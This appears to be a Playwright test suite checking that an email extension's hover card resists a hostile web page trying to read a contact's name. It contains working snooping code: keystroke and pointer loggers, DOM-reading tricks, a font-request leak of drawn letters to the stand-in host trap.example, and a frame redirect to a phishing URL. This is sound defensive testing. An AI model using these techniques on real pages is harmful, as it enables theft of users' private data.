/** What a page tries in order to read what the card over it shows. */
import type { Page } from "@playwright/test";
import { cardOf, restOn } from "../e2e/hovering";
import { attackGroup } from "./group";
import type { Attack } from "./group";
import type { SwitchName } from "./switches";
import type { World } from "./world";

/** The page knows the address; this part of the name only the card shows. */
const secret = "Okafor";
const known = "ingrid.solheim@northwind-robotics.example";

/** The page listens from its first script on. */
const spies = `<script>
  window.spied = [];
  new MutationObserver((records) => {
    for (const { addedNodes } of records) for (const node of addedNodes) {
      spied.push("added: " + node.textContent);
      for (const frame of [node, ...(node.querySelectorAll?.("iframe") ?? [])]) if (frame.src) spied.push("framed: " + frame.src);
    }
  }).observe(document, { childList: true, subtree: true, characterData: true });
  document.addEventListener("load", ({ target }) => spied.push("loaded: " + (target.src ?? "")), true);
  for (const type of ["keydown", "keypress", "keyup", "beforeinput", "input"]) addEventListener(type, ({ key, data }) => spied.push("typed: " + (key ?? data)), true);
  addEventListener("pointermove", ({ target, clientX, clientY }) => spied.push("over: " + target.localName + " " + clientX + " " + clientY + " " + target.textContent), true);
  addEventListener("copy", () => spied.push("copied: " + getSelection()), true);
  addEventListener("dragstart", (event) => spied.push("dragged: " + event.dataTransfer.getData("text/plain")), true);
  addEventListener("securitypolicyviolation", ({ blockedURI }) => spied.push("violation: " + blockedURI));
  addEventListener("blur", () => spied.push("blur: " + document.activeElement.localName), true);
  addEventListener("click", (event) => spied.push("path: " + event.composedPath().map((one) => one.localName ?? one.constructor.name).join()), true);
</script>`;

const body = `${spies}<p style="margin:60px 40px">From: <a id="one" href="mailto:${known}">a friend</a></p><p id="away" style="position:absolute;top:620px">Nobody here</p>`;

interface Place {
  page: Page;
}

async function prepare(world: World): Promise<Place> {
  return { page: await world.openMail(body) };
}

/** The card over the page, or what stands in its place; `anew`: drawn again while the page listens. */
async function withCard({ page }: Place, anew = false): Promise<void> {
  await page.evaluate(() => {
    getSelection()?.removeAllRanges();
    (globalThis as unknown as { spied: string[] }).spied.length = 0;
  });
  const isThere = () => page.evaluate(() => document.querySelector("html > div") !== null);
  if (!anew && (await isThere())) return said(page);
  // Who typed a moment ago has no card opened for two seconds.
  for (let turn = 0; turn < 6; turn += 1) {
    await page.mouse.move(600, 700, { steps: 4 });
    if (turn === 0) await page.waitForFunction(() => document.querySelector("html > div") === null);
    await restOn(page, "#one");
    await page.waitForTimeout(600);
    if (await isThere()) return said(page);
  }
  throw new Error("No card was drawn.");
}

/** Until the card says whose it is, in its frame or, where there is none, in the page. */
async function said(page: Page): Promise<void> {
  for (let turn = 0; turn < 60; turn += 1) {
    const inFrame = await cardOf(page)
      ?.evaluate(() => document.body.innerText)
      .catch(() => "");
    const inPage = await page.evaluate(() => document.querySelector("html > div")?.textContent ?? "");
    if (`${inFrame ?? ""}${inPage}`.includes("Okafor") && (await isShown(page))) return;
    await page.waitForTimeout(100);
  }
  throw new Error("The card did not say whose it is.");
}

const isShown = (page: Page) =>
  page.evaluate(() => {
    const host = document.querySelector("html > div");
    return host !== null && getComputedStyle(host).opacity === "1";
  });

/** Where the card is drawn. */
const boxOf = (page: Page) =>
  page.evaluate(() => {
    const { x = 0, y = 0, width = 0, height = 0 } = document.querySelector("html > div")?.getBoundingClientRect() ?? {};
    return { x, y, width, height };
  });

type Attempt = Attack<Place>["attempt"];

/** Reads by code of the page; what it comes to holds the secret where it succeeded. */
const byCode =
  (code: string): Attempt =>
  async (place) => {
    await withCard(place);
    const text = await place.page.evaluate<unknown>(`(async () => { const host = document.querySelector("html > div"); ${code} })()`);
    return typeof text === "string" && text.includes(secret) ? text.slice(Math.max(0, text.indexOf(secret) - 20)) : null;
  };

/** Any answer at all is a success. */
const anything =
  (code: string): Attempt =>
  async (place) => {
    await withCard(place, code.includes("spied"));
    const text = await place.page.evaluate<unknown>(`(async () => { const host = document.querySelector("html > div"); ${code} })()`);
    return typeof text === "string" && text !== "" ? text : null;
  };

/** What the page's listeners noted, as far as it fits. */
const noted = async (page: Page, mark: RegExp) => (await page.evaluate<string[]>("spied")).find((one) => mark.test(one)) ?? null;

const reads: [name: string, code: string][] = [
  ["innerText of the whole page", `return document.documentElement.innerText;`],
  ["textContent of the whole page", `return document.documentElement.textContent;`],
  ["outerHTML of the whole page", `return document.documentElement.outerHTML;`],
  ["getHTML with all shadow roots", `return document.documentElement.getHTML({ serializableShadowRoots: true });`],
  ["XMLSerializer", `return new XMLSerializer().serializeToString(document);`],
  ["window.find of a guessed name", `return window.find("${secret}") ? "found ${secret}" : "";`],
  [
    "window.find of a first name, and the selection drawn on to the end of its line",
    `window.find("Ingrid"); getSelection().modify("extend", "forward", "line"); return String(getSelection());`,
  ],
  ["execCommand findString", `return document.execCommand("findString", false, "${secret}") ? "found ${secret}" : "";`],
  ["the selection of all of it", `getSelection().selectAllChildren(host); return String(getSelection());`],
  [
    "the caret at each point of it (caretPositionFromPoint)",
    `const { x, y, width, height } = host.getBoundingClientRect();
     for (let at = y + 3; at < y + height; at += 6) for (let from = x + 3; from < x + width; from += 20) {
       const text = document.caretPositionFromPoint(from, at)?.offsetNode?.data ?? "";
       if (text.includes("${secret}")) return text;
     }
     return "";`,
  ],
  [
    "the caret at each point of it (caretRangeFromPoint)",
    `const { x, y, width, height } = host.getBoundingClientRect();
     for (let at = y + 3; at < y + height; at += 6) for (let from = x + 3; from < x + width; from += 20) {
       const text = document.caretRangeFromPoint(from, at)?.startContainer.data ?? "";
       if (text.includes("${secret}")) return text;
     }
     return "";`,
  ],
  [
    "the element at each point of it",
    `const { x, y, width, height } = host.getBoundingClientRect();
     return document.elementsFromPoint(x + width / 2, y + height / 2).map((one) => one.textContent).join();`,
  ],
  [
    "a walker over its nodes",
    `const texts = []; for (const walker = document.createTreeWalker(host); walker.nextNode(); ) texts.push(walker.currentNode.data); return texts.join();`,
  ],
  ["XPath", `return document.evaluate("//*[contains(text(), '${secret}')]", document, null, XPathResult.STRING_TYPE).stringValue;`],
  [
    "a range over it",
    `const range = new Range(); range.selectNodeContents(host); return range.toString() + range.cloneContents().textContent;`,
  ],
  ["a copy of the page, as screenshot libraries make one", `return document.documentElement.cloneNode(true).textContent;`],
  ["a copy drawn into SVG (foreignObject)", `return new XMLSerializer().serializeToString(host).replace(/^/, "<svg><foreignObject>");`],
  [
    "the host moved into a document of the page's own",
    `return document.implementation.createHTMLDocument("").importNode(host, true).textContent;`,
  ],
  [
    "what is printed (beforeprint)",
    `let text = ""; addEventListener("beforeprint", () => (text = document.documentElement.innerText), { once: true }); dispatchEvent(new Event("beforeprint")); return text;`,
  ],
  ["the accessible names of the host", `return [host.ariaLabel, host.title, host.ariaDescription, host.innerText].join();`],
];

/** Ways that would read a text in a closed root as well. Carets and the selection would not. */
const seeking = /find/i;

/** What the first text of the page says is not the page's to hear. */
const frameAttacks: [name: string, code: string][] = [
  ["the address of its frame (querySelector)", `return document.querySelector("iframe")?.src;`],
  ["the number of frames (window.length)", `return window.length > 0 ? window.length + " frames" : "";`],
  ["the frame itself (window.frames)", `return window[0] === undefined ? "" : "a window to post messages to";`],
  ["the address of its frame, from what was added", `return spied.find((one) => one.startsWith("framed: chrome-extension"));`],
  ["that its frame has loaded", `return spied.find((one) => one.startsWith("loaded: chrome-extension"));`],
  [
    "what lies under the pointer over it",
    `const { x, y } = host.getBoundingClientRect(); const at = document.elementFromPoint(x + 50, y + 50); return at?.localName === "iframe" ? "the frame" : "";`,
  ],
];

/** After this one there is no card in the frame any more. */
const sentElsewhere = anything(
  `const frame = document.querySelector("iframe"); if (!frame) return ""; frame.contentWindow.location = "http://trap.example/phish"; return "the card's frame was sent to another page";`,
);

const rootAttacks: [name: string, code: string][] = [
  ["its shadow root", `return host.shadowRoot === null ? "" : "the root";`],
  ["the frame in its shadow root, and its address", `return host.shadowRoot?.querySelector("iframe")?.src;`],
  ["its shadow root's HTML", `return host.getHTML({ shadowRoots: host.shadowRoot ? [host.shadowRoot] : [] });`],
  [
    "the frame at a point of its shadow root",
    `const { x, y } = host.getBoundingClientRect(); return host.shadowRoot?.elementFromPoint(x + 50, y + 50)?.localName;`,
  ],
  [
    "its style sheet, to draw it otherwise",
    `if (!host.shadowRoot) return ""; host.shadowRoot.adoptedStyleSheets = []; return "its rules were taken away";`,
  ],
  [
    "its frame, to shut it away (sandbox)",
    `const frame = host.shadowRoot?.querySelector("iframe"); if (!frame) return ""; frame.sandbox = ""; frame.src += ""; return "the frame was shut away";`,
  ],
];

const inPage: SwitchName[] = ["card-frame"];

const attacks: Attack<Place>[] = [
  ...reads.map(([name, code]): Attack<Place> => ({ name: `the page reads ${name}`, without: inPage, attempt: byCode(code) })),
  ...reads
    .filter(([name]) => seeking.test(name))
    .map(([name, code]): Attack<Place> => ({
      name: `the page reads ${name}, past the closed root`,
      without: ["words-in-frame"],
      attempt: byCode(code),
    })),
  ...frameAttacks.map(([name, code]): Attack<Place> => ({
    name: `the page takes ${name}`,
    without: ["in-shadow"],
    attempt: anything(code),
  })),
  ...rootAttacks.map(([name, code]): Attack<Place> => ({
    name: `the page takes ${name}`,
    without: ["closed-root"],
    attempt: anything(code),
  })),
  {
    name: "the page watches what is added to it (MutationObserver)",
    without: inPage,
    async attempt(place) {
      await withCard(place, true);
      return noted(place.page, /^added: .*Okafor/);
    },
  },
  {
    name: "the page measures the card: its size tells what stands in it",
    without: inPage,
    async attempt(place) {
      await withCard(place);
      const { width, height } = await boxOf(place.page);
      return width === 320 && height === 248 ? null : `${width} × ${height}`;
    },
  },
  {
    name: "the page watches the card's size (ResizeObserver)",
    without: inPage,
    async attempt(place) {
      await withCard(place);
      const size = await place.page.evaluate(
        () =>
          new Promise<string>((resolve) => {
            const host = document.querySelector("html > div");
            if (host === null) return resolve("");
            new ResizeObserver(([entry]) => resolve(`${entry?.contentRect.width} × ${entry?.contentRect.height}`)).observe(host);
          }),
      );
      return size === "320 × 248" ? null : size;
    },
  },
  {
    name: "the page asks for the rectangle of the text (getClientRects)",
    without: inPage,
    async attempt(place) {
      await withCard(place);
      const rects = await place.page.evaluate(() => {
        const range = new Range();
        const host = document.querySelector("html > div");
        if (host !== null) range.selectNodeContents(host);
        return range.getClientRects().length;
      });
      return rects === 0 ? null : `${rects} rectangles of text`;
    },
  },
  {
    name: "a font of the page tells which letters the card draws",
    without: ["card-frame", "host-rules"],
    async attempt(place) {
      const asked: string[] = [];
      place.page.on("request", (request) => request.url().includes("/font-") && asked.push(request.url().slice(-1)));
      await place.page.evaluate(() => {
        const style = document.createElement("style");
        style.id = "fonts";
        const face = (letter: string) =>
          `@font-face{font-family:Probe;src:url("http://trap.example/font-${letter}");unicode-range:U+${letter.charCodeAt(0).toString(16)}}`;
        style.textContent = `${[..."OkfNRb"].map(face).join("")} html>div,html>div *{font-family:Probe!important}`;
        document.head.append(style);
      });
      await withCard(place, true);
      await place.page.waitForTimeout(500);
      await place.page.evaluate(() => document.querySelector("#fonts")?.remove());
      return asked.length === 0 ? null : `it asked for the letters ${asked.join()}`;
    },
  },
  {
    name: "the page hears the keys that are typed in the card",
    without: inPage,
    async attempt(place) {
      const { page } = place;
      await withCard(place);
      const { x, y, width } = await boxOf(page);
      await page.mouse.move(x + Math.min(width - 4, 300), y + 8, { steps: 6 });
      await page.waitForTimeout(200);
      await page.mouse.click(x + Math.min(width - 4, 300), y + 8);
      await page.keyboard.type("q");
      return noted(page, /^typed: q/);
    },
  },
  {
    name: "the page asks what was drawn largest (largest-contentful-paint)",
    without: inPage,
    async attempt(_place, world) {
      // Asked of a page that nobody has clicked in: a click ends the list.
      const page = await world.openMail(body);
      await withCard({ page });
      const drawn = await page.evaluate(
        () =>
          new Promise<string>((resolve) => {
            const texts: string[] = [];
            // Its type is not in TypeScript's declarations yet.
            const note = (entry: PerformanceEntry & { element?: Element }) => texts.push(entry.element?.textContent ?? "");
            new PerformanceObserver((list) => list.getEntries().forEach(note)).observe({
              type: "largest-contentful-paint",
              buffered: true,
            });
            setTimeout(() => resolve(texts.join("; ")), 400);
          }),
      );
      await page.close();
      return drawn.includes(secret) ? drawn : null;
    },
  },
  {
    name: "the page follows the pointer over the card",
    without: inPage,
    async attempt(place) {
      const { page } = place;
      await withCard(place);
      const { x, y, width, height } = await boxOf(page);
      await page.mouse.move(x + width / 2, y + height / 2, { steps: 8 });
      return noted(page, /^over: div .*Okafor/);
    },
  },
  {
    name: "the page hears what is copied from the card",
    without: inPage,
    async attempt(place) {
      const { page } = place;
      await withCard(place);
      const { x, y, height } = await boxOf(page);
      await page.mouse.move(x + 2, y + Math.min(height, 30) / 2, { steps: 6 });
      await page.evaluate(() => {
        const host = document.querySelector("html > div");
        if (host !== null) getSelection()?.selectAllChildren(host);
      });
      await page.keyboard.press("Control+C");
      return noted(page, /^copied: .*Okafor/);
    },
  },
  {
    name: "the page sees through which elements a click on the card went (composedPath)",
    without: ["in-shadow"],
    async attempt(place) {
      const { page } = place;
      await withCard(place);
      await page.evaluate(() => {
        const host = document.querySelector("html > div > *") ?? document.querySelector("html > div");
        host?.dispatchEvent(new MouseEvent("click", { bubbles: true, composed: true }));
      });
      return noted(page, /^path: iframe/);
    },
  },
  {
    name: "the page learns which element of the card has the focus",
    without: ["in-shadow"],
    async attempt(place) {
      const { page } = place;
      await withCard(place);
      const { x, y } = await boxOf(page);
      await page.mouse.move(x + 300, y + 8, { steps: 6 });
      await page.waitForTimeout(200);
      await page.mouse.click(x + 300, y + 8);
      await page.waitForTimeout(200);
      return (await page.evaluate(() => document.activeElement?.localName)) === "iframe" ? "the frame" : null;
    },
  },
  { name: "the page takes its frame's window, to send it elsewhere", without: ["in-shadow"], attempt: sentElsewhere },
  {
    name: "the page patches attachShadow, append and addEventListener to catch the card being built",
    without: [],
    also: "our script has prototypes of its own",
    async attempt(place) {
      await place.page.evaluate(() => {
        const world = globalThis as unknown as { caught: string[] };
        world.caught = [];
        for (const [holder, name] of [
          [Element.prototype, "attachShadow"],
          [Element.prototype, "append"],
          [EventTarget.prototype, "addEventListener"],
        ] as const) {
          const own = Reflect.get(holder, name) as (...args: unknown[]) => unknown;
          Reflect.set(holder, name, function patched(this: unknown, ...args: unknown[]) {
            world.caught.push(name);
            return own.apply(this, args);
          });
        }
      });
      await withCard(place, true);
      const caught = await place.page.evaluate(() => (globalThis as unknown as { caught: string[] }).caught);
      return caught.length === 0 ? null : caught.join();
    },
  },
  {
    name: "the page lists what was loaded (performance entries)",
    without: [],
    also: "a frame in a shadow root of another origin is no entry",
    async attempt(place) {
      await withCard(place, true);
      const entries = await place.page.evaluate(() => performance.getEntries().map(({ name }) => name));
      return entries.find((name) => name.includes("extension")) ?? null;
    },
  },
  {
    name: "the page counts the steps of its history",
    without: [],
    also: "the first page of a frame is no step",
    async attempt(place) {
      const before = await place.page.evaluate(() => history.length);
      await withCard(place, true);
      const after = await place.page.evaluate(() => history.length);
      return after === before ? null : `${before}, then ${after}`;
    },
  },
];

attackGroup({ heading: "A page reads the card", title: "a page reads the card over it", prepare, attacks });
